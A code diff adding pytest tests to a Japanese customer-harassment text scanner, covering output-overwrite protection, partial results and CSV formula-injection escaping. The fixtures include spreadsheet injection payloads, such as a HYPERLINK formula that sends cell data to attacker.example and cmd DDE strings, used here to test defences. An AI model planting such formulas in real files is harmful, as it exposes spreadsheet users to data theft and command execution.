@@ -1,6 +1,7 @@
 """The output contract of scanning: one result per input record, in order, with the documented fields."""
 
 import csv
+import os
 import json
 
 import pytest
@@ -143,3 +144,171 @@ def test_results_read_before_an_input_fails_are_kept(clf):
         for result in scan_records(records(), clf, ScanOptions(batch_size=64)):
             got.append(result)
     assert [r["id"] for r in got] == ["a", "b"] and all(r["status"] == "ok" for r in got)
+
+
+# -- QA F2: an output that is one of the inputs must not truncate it -----------------------------------------------
+def _same_file_layouts(tmp_path):
+    """(inputs, output) pairs where writing the output would destroy an input before it is read."""
+    inbox = tmp_path / "inbox.csv"
+    inbox.write_text("id,text\n1,商品が届きません\n2,返金してください\n", encoding="utf-8")
+    msgs = tmp_path / "msgs.jsonl"
+    msgs.write_text('{"id": "a", "text": "届かない"}\n', encoding="utf-8")
+    folder = tmp_path / "exports"
+    (folder / "day1").mkdir(parents=True)
+    (folder / "day1" / "x.jsonl").write_text('{"id": "f", "text": "届かない"}\n', encoding="utf-8")
+    (tmp_path / "link.csv").symlink_to(inbox)
+    os.link(msgs, tmp_path / "hard.jsonl")
+    return {
+        "same csv": ([inbox], inbox),
+        "same jsonl": ([msgs], msgs),
+        "same file spelt differently": ([inbox], tmp_path / "exports" / ".." / "inbox.csv"),
+        "symlink to the input": ([inbox], tmp_path / "link.csv"),
+        "hard link to the input": ([msgs], tmp_path / "hard.jsonl"),
+        "second of several inputs": ([inbox, msgs], msgs),
+        "inside an input folder": ([folder], folder / "results.jsonl"),
+        "deep inside an input folder": ([inbox, folder], folder / "day1" / "results.csv"),
+    }
+
+
+SAME_FILE_CASES = ["same csv", "same jsonl", "same file spelt differently", "symlink to the input",
+                   "hard link to the input", "second of several inputs", "inside an input folder",
+                   "deep inside an input folder"]
+
+
+@pytest.mark.parametrize("case", SAME_FILE_CASES)
+def test_an_output_that_is_an_input_is_refused_before_anything_is_written(tmp_path, clf, case):
+    from kasuhara_nlp.errors import ConfigError
+
+    inputs, out = _same_file_layouts(tmp_path)[case]
+    before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
+    with pytest.raises(ConfigError, match="-o"):
+        run_scan([str(p) for p in inputs], str(out), clf)
+    after = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
+    assert after == before  # no input truncated, no output (or .partial file) created
+
+
+def test_a_run_that_stops_part_way_leaves_the_earlier_results_in_place(tmp_path, clf):
+    from kasuhara_nlp.errors import InputFormatError
+
+    good = tmp_path / "a.jsonl"
+    good.write_text('{"id": "a", "text": "届かない"}\n{"id": "b", "text": "返金してください"}\n',
+                    encoding="utf-8")
+    out = tmp_path / "results.jsonl"
+    out.write_text('{"id": "earlier"}\n', encoding="utf-8")
+    with pytest.raises(InputFormatError):
+        run_scan([str(good), str(tmp_path / "missing.csv")], str(out), clf)
+    assert out.read_text(encoding="utf-8") == '{"id": "earlier"}\n'
+    # What was scored before the stop is kept beside it, under a name no one takes for finished results.
+    partial = [json.loads(line) for line in (tmp_path / "results.jsonl.partial").read_text("utf-8").splitlines()]
+    assert [r["id"] for r in partial] == ["a", "b"]
+    run_scan([str(good)], str(out), clf)
+    assert [json.loads(line)["id"] for line in out.read_text("utf-8").splitlines()] == ["a", "b"]
+    assert not (tmp_path / "results.jsonl.partial").exists()
+
+
+# -- QA F7: CSV cells that Excel would run as formulas -------------------------------------------------------------
+FORMULA_CELLS = [  # (value written, cell read back with the csv module)
+    ('=HYPERLINK("http://attacker.example/?"&M2,"詳細はこちら")',
+     '\'=HYPERLINK("http://attacker.example/?"&M2,"詳細はこちら")'),
+    ("=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1"),
+    ("+81 90 0000 0000+cmd", "'+81 90 0000 0000+cmd"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("@SUM(1+1)*cmd|'/c calc'!A1", "'@SUM(1+1)*cmd|'/c calc'!A1"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("＝1+1", "'＝1+1"),
+    ("'quoted already", "''quoted already"),  # so that dropping one leading ' always restores the value
+    ("-12", "-12"),  # a number stays a number
+    ("+3.5", "+3.5"),
+    ("普通の本文 =1+1", "普通の本文 =1+1"),
+    ("", ""),
+]
+
+
+@pytest.mark.parametrize("column", ["id", "reason", "text", "staff_name", "source_file", "channel",
+                                    "message_ids"])
+@pytest.mark.parametrize("value, cell", FORMULA_CELLS)
+def test_csv_text_cells_cannot_start_a_formula(tmp_path, column, value, cell):
+    from kasuhara_nlp.scan import ResultWriter
+    from kasuhara_nlp.scan_output import restore_cell
+
+    result = {"id": "r1", "kind": "message", "status": "ok", "flagged": False, "labels": [], "severity": 0,
+              "scores": {c: 0.25 for c in CATEGORIES}, "evidence": [], "text": "本文", "sequence": 3}
+    result[column] = [value] if column == "message_ids" else value
+    out = tmp_path / "out.csv"
+    with ResultWriter(str(out)) as w:
+        w.write(result)
+    with open(out, encoding="utf-8-sig", newline="") as f:
+        row = next(csv.DictReader(f))
+    assert row[column] == cell
+    assert restore_cell(row[column]) == value
+    # Numbers are never prefixed: Excel must still read them as numbers.
+    assert row["score_abuse"] == "0.25" and row["severity"] == "0" and row["sequence"] == "3"
+
+
+def test_scanned_csv_has_no_formula_cells(tmp_path, clf):
+    src = tmp_path / "in.jsonl"
+    src.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in [
+        {"id": "x1", "text": '=HYPERLINK("http://attacker.example/?"&M2,"詳細はこちら")'},
+        {"id": "=cmd|'/c calc'!A1", "text": "@SUM(1+1)*cmd|'/c calc'!A1"},
+        {"id": "-7", "text": "-- 商品が届きません"},
+    ]), encoding="utf-8")
+    out = tmp_path / "out.csv"
+    run_scan([str(src)], str(out), clf, ScanOptions(mask_pii=False))
+    with open(out, encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert [(r["id"], r["text"][:5]) for r in rows] == [
+        ("x1", "'=HYP"), ("'=cmd|'/c calc'!A1", "'@SUM"), ("-7", "'-- 商")]
+    assert all(float(r["score_abuse"]) >= 0 for r in rows)
+
+
+# -- QA F8: why a conversation was flagged, in the CSV too ---------------------------------------------------------
+def test_csv_signals_and_message_ids_columns_are_appended(tmp_path):
+    from kasuhara_nlp.scan import ResultWriter
+
+    conversation = {
+        "id": "T-1", "kind": "conversation", "status": "ok", "flagged": True, "labels": ["restraint"],
+        "severity": 1, "scores": {c: 0.0 for c in CATEGORIES}, "evidence": [], "message_ids": ["1", "2", "3"],
+        "signals": [
+            {"type": "long_duration", "category": "restraint", "score": 0.6, "counted": True,
+             "detail": "conversation lasted 95 min (limit 60)", "message_ids": ["1", "3"], "minutes": 95.0},
+            {"type": "out_of_hours", "category": "restraint", "score": 0.6, "counted": False,
+             "detail": "3 customer messages outside business hours, 0 of them flagged", "message_ids": ["1"]},
+        ]}
+    message = {"id": "1", "kind": "message", "status": "ok", "labels": [], "scores": {}, "evidence": []}
+    out = tmp_path / "out.csv"
+    with ResultWriter(str(out)) as w:
+        w.write(message)
+        w.write(conversation)
+    with open(out, encoding="utf-8-sig", newline="") as f:
+        reader = csv.DictReader(f)
+        rows = list(reader)
+    # Appended, so consumers that read the earlier columns by position keep working.
+    assert reader.fieldnames[-2:] == ["signals", "message_ids"] and CSV_COLUMNS[-2:] == ["signals", "message_ids"]
+    assert rows[0]["signals"] == rows[0]["message_ids"] == ""
+    assert rows[1]["message_ids"] == "1|2|3"
+    assert rows[1]["signals"] == (
+        "long_duration (restraint, counted): conversation lasted 95 min (limit 60) [1|3]; "
+        "out_of_hours (restraint, not counted): 3 customer messages outside business hours, 0 of them flagged [1]")
+
+
+def test_scanned_csv_explains_a_conversation_flagged_by_a_signal_alone(tmp_path, clf):
+    # A polite chat the customer keeps going for 90 minutes, a line every 10: nothing in the text, only the time.
+    src = tmp_path / "chat.csv"
+    lines = ["id,ticket_id,timestamp,role,channel,text"]
+    for i, minutes in enumerate(range(0, 91, 10)):
+        at = f"2026-11-02 {10 + minutes // 60}:{minutes % 60:02d}"
+        lines += [f"c{i},T-1,{at},customer,chat,在庫を確認していただけますか。",
+                  f"a{i},T-1,{at}:30,agent,chat,確認いたします。"]
+    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    run_scan([str(src)], str(tmp_path / "out.jsonl"), clf)
+    run_scan([str(src)], str(tmp_path / "out.csv"), clf)
+    jsonl = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text("utf-8").splitlines()]
+    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.DictReader(f))
+    conv, row = jsonl[-1], rows[-1]
+    assert conv["kind"] == row["kind"] == "conversation" and conv["signals"]
+    assert row["message_ids"] == "|".join(conv["message_ids"])
+    for sig in conv["signals"]:
+        assert sig["type"] in row["signals"] and sig["detail"] in row["signals"]
+    assert ("not counted" in row["signals"]) == any(not s["counted"] for s in conv["signals"])
